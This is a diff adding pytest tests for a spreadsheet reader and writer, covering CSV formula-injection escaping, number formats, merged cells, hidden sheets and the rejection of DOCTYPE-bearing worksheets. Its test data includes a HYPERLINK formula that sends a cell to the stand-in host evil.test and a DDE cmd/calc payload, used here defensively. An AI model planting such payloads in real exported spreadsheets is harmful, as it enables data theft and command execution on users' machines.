@@ -181,3 +181,124 @@ def test_a_header_row_is_told_by_its_labels_ignoring_case_width_and_spaces(cells
 
 def test_a_one_field_table_needs_only_that_label():
     assert match_header(["客户名称"], {"name": ["客户名称"]}) == {"name": 0}
+
+
+# --------------------------------------------------------------------------- formulas, merges, formats, sheets
+
+FORMULA_LIKE = ['=HYPERLINK("http://evil.test/?d="&B3,"点击查看")', "@SUM(1+1)*cmd|' /C calc'!A0",
+                "+86 138 0013 8000", "-2+3", "-1200", "\tTAB", "'=already escaped", "''+two apostrophes"]
+
+
+@pytest.mark.parametrize("value", FORMULA_LIKE)
+def test_an_exported_csv_cell_never_starts_a_formula(value):
+    data = table_bytes([["名称"], [value]], ".csv").decode("utf-8-sig")
+    (cell,) = list(__import__("csv").reader(io.StringIO(data)))[1]
+    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r") and cell == "'" + value
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_formula_like_values_read_back_from_an_export_as_they_were(suffix):
+    rows = [["名称", "电话"], *([value, "plain"] for value in FORMULA_LIKE), ["'just an apostrophe", "it's"]]
+    assert [list(r.cells) for r in read_table(table_bytes(rows, suffix), "导出" + suffix)] == rows
+
+
+def test_an_exported_workbook_marks_formula_like_cells_as_typed_text():
+    book = openpyxl.load_workbook(io.BytesIO(table_bytes([["电话"], ["+86 138 0013 8000"], ["021-5888"]], ".xlsx")))
+    phone, plain = book.active["A2"], book.active["A3"]
+    assert (phone.value, phone.data_type, phone.quotePrefix) == ("+86 138 0013 8000", "s", True)
+    assert (plain.value, plain.quotePrefix) == ("021-5888", False)
+
+
+@pytest.mark.parametrize("written, read", [
+    ("'=1+2", "=1+2"), ("'+86 138", "+86 138"), ("''-5", "'-5"), ("'abc", "'abc"), ("it's", "it's"), ("-5", "-5"),
+])
+def test_only_the_apostrophe_before_a_formula_character_is_taken_off_on_import(written, read):
+    assert read_table(csv_text([["名称", "x"], [written, "y"]]).encode(), "x.csv")[1].cells[0] == read
+
+
+@pytest.mark.parametrize("value, fmt, shown", [
+    (123, "00000", "00123"), (123.0, "000000", "000123"), (7, "00000;-00000", "00007"), (-5, "000", "-005"),
+    (123, '"KH"00000', "KH00123"), (123, "\\C0000", "C0123"), (123456789, "00000-0000", "12345-6789"),
+    (1234567, "00000", "1234567"), (12.5, "00000", "12.5"), (123, "General", "123"), (123.0, "0", "123"),
+    (13800138000, "0", "13800138000"), (5, "0.00", "5"), (1200, "#,##0", "1200"), (-7, "00000;(00000)", "-7"),
+], ids=lambda v: str(v))
+def test_a_number_reads_as_its_zero_padded_format_shows_it_and_otherwise_as_before(value, fmt, shown):
+    def data() -> bytes:
+        book = openpyxl.Workbook()
+        book.active.append(["编号", "名称"])
+        book.active.append([value, "x"])
+        book.active["A2"].number_format = fmt
+        out = io.BytesIO()
+        book.save(out)
+        return out.getvalue()
+
+    assert read_table(data(), "x.xlsx")[1].cells[0] == shown
+
+
+def merged(rows: list[list], ranges: list[str]) -> bytes:
+    book = openpyxl.Workbook()
+    for row in rows:
+        book.active.append(row)
+    for cells in ranges:
+        book.active.merge_cells(cells)
+    out = io.BytesIO()
+    book.save(out)
+    return out.getvalue()
+
+
+def test_a_value_merged_down_a_column_stands_in_every_row_it_spans():
+    rows = [["编号", "地区", "等级"], ["C1", "上海", "A"], ["C2", None, None], ["C3", None, "B"], ["C4", "北京", "C"]]
+    read = read_table(merged(rows, ["B2:B4", "C2:C3"]), "x.xlsx")
+    assert [r.cells for r in read[1:]] == [("C1", "上海", "A"), ("C2", "上海", "A"), ("C3", "上海", "B"),
+                                           ("C4", "北京", "C")]
+
+
+def test_a_title_merged_across_columns_stays_one_cell():
+    read = read_table(merged([["华东 客户名录"], ["编号", "地区"], ["C1", "上海"]], ["A1:D1"]), "x.xlsx")
+    assert read[0] == Row(1, ("华东 客户名录",))
+
+
+def test_a_merge_drawn_past_the_last_row_makes_no_rows_of_its_own():
+    rows = [["编号", "地区"], ["C1", "上海"], ["C2", None]]
+    read = read_table(merged(rows, ["B2:B9"]), "x.xlsx")
+    assert [r.number for r in read] == [1, 2, 3] and read[2].cells == ("C2", "上海")
+
+
+def test_a_block_merge_fills_its_first_column_only():
+    rows = [["编号", "地区", "备注"], ["C1", "上海", None], ["C2", None, None]]
+    assert read_table(merged(rows, ["B2:C3"]), "x.xlsx")[2].cells == ("C2", "上海")
+
+
+def with_sheets(states: list[str], active: int) -> bytes:
+    book = openpyxl.Workbook()
+    for index, state in enumerate(states):
+        sheet = book.active if index == 0 else book.create_sheet(f"S{index}")
+        sheet.title = f"S{index}"
+        sheet["A1"], sheet["B1"] = "sheet", f"S{index}"
+        sheet.sheet_state = state
+    book.active = active
+    out = io.BytesIO()
+    book.save(out)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("states, active, read", [
+    (["hidden", "visible"], 1, "S1"), (["veryHidden", "visible"], 1, "S1"),
+    (["hidden", "veryHidden", "visible", "visible"], 3, "S2"), (["visible", "visible"], 1, "S0"),
+], ids=["hidden first", "very hidden first", "two hidden, a later sheet active", "a notes sheet active"])
+def test_a_workbook_is_read_from_its_first_visible_sheet_whichever_was_active(states, active, read):
+    assert read_table(with_sheets(states, active), "x.xlsx")[0].cells == ("sheet", read)
+
+
+def test_a_sheet_carrying_a_doctype_is_refused():
+    good = merged([["编号", "地区"], ["C1", "上海"], ["C2", None]], ["B2:B3"])
+    source = zipfile.ZipFile(io.BytesIO(good))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        for info in source.infolist():
+            body = source.read(info.filename)
+            if info.filename == "xl/worksheets/sheet1.xml":
+                body = body.replace(b"<worksheet", b'<!DOCTYPE x [<!ENTITY a "aaaa">]><worksheet', 1)
+            archive.writestr(info.filename, body)
+    with pytest.raises(TableError):
+        read_table(out.getvalue(), "x.xlsx")
